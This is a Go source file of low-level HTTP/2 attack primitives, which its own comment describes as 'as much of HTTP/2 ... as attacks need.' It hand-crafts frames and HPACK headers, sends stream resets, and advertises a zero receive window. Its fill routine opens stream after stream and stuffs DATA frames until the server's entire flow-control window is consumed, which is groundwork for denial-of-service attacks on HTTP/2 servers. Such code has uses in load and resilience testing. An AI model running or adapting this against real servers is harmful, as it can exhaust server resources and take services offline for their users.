package main

import (
	"crypto/tls"
	"encoding/binary"
	"io"
	"strings"
)

// As much of HTTP/2 (RFC 9113) and HPACK (RFC 7541) as attacks need.
const (
	frameData     = 0
	frameHeaders  = 1
	frameReset    = 3
	frameSettings = 4
	framePing     = 6
	frameWindow   = 8

	preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + "\x00\x00\x00\x04\x00\x00\x00\x00\x00" // and no settings
)

// frame is a frame's header and its payload, which may be shorter than it says.
func frame(kind, flags byte, stream uint32, length int, payload string) string {
	b := []byte{byte(length >> 16), byte(length >> 8), byte(length), kind, flags}
	return string(binary.BigEndian.AppendUint32(b, stream)) + payload
}

// Flags of frameHeaders.
const (
	endStream  = 1
	endHeaders = 4
)

// ask is a whole GET request on a stream of its own.
func ask(stream uint32, path string) string { return begin(stream, path, endStream|endHeaders) }

// begin is the header of a GET request.
func begin(stream uint32, path string, flags byte) string {
	// :method GET and :scheme https are in the static table; :path and :authority are literals.
	block := "\x82\x87" + "\x04" + string(rune(len(path))) + path + "\x01\x01g"
	return frame(frameHeaders, flags, stream, len(block), block)
}

// reset ends a stream.
func reset(stream uint32) string { return frame(frameReset, 0, stream, 4, "\x00\x00\x00\x08") }

// noAnswers are the settings of a client that takes no byte of any answer.
const noAnswers = "\x00\x00\x06\x04\x00\x00\x00\x00\x00" + "\x00\x04\x00\x00\x00\x00"

// windows reads what a server that was sent a preface lets a client send: on each stream, and on
// all of them.
func windows(conn io.Reader) (stream, all int, err error) {
	const initial = 65_535
	stream, all = initial, initial
	for {
		kind, _, payload, err := readFrame(conn)
		if err != nil {
			return 0, 0, err
		}
		for ; kind == frameSettings && len(payload) >= 6; payload = payload[6:] {
			if binary.BigEndian.Uint16(payload) == 4 { // SETTINGS_INITIAL_WINDOW_SIZE
				stream = int(binary.BigEndian.Uint32(payload[2:]))
			}
		}
		if kind == frameWindow {
			return stream, all + int(binary.BigEndian.Uint32(payload)), nil
		}
	}
}

// fill begins requests for path, and sends as much of bodies as the server takes without a handler
// that reads them. It returns when the server has all of it.
func fill(conn *tls.Conn, path string) error {
	if _, err := io.WriteString(conn, preface+noAnswers); err != nil {
		return err
	}
	most, all, err := windows(conn)
	if err != nil {
		return err
	}
	var sent strings.Builder
	for stream := uint32(1); all > 0; stream += 2 {
		sent.WriteString(begin(stream, path, endHeaders))
		for left := min(most, all); left > 0; {
			n := min(left, 16<<10)
			sent.WriteString(frame(frameData, 0, stream, n, strings.Repeat("x", n)))
			left, all = left-n, all-n
		}
	}
	sent.WriteString(frame(framePing, 0, 0, 8, "received"))
	if _, err := io.WriteString(conn, sent.String()); err != nil {
		return err
	}
	for {
		kind, flags, _, err := readFrame(conn)
		if err != nil || kind == framePing && flags == 1 {
			return err
		}
	}
}

func readFrame(from io.Reader) (kind, flags byte, payload []byte, err error) {
	var header [9]byte
	if _, err := io.ReadFull(from, header[:]); err != nil {
		return 0, 0, nil, err
	}
	payload = make([]byte, int(header[0])<<16|int(header[1])<<8|int(header[2]))
	_, err = io.ReadFull(from, payload)
	return header[3], header[4], payload, err
}
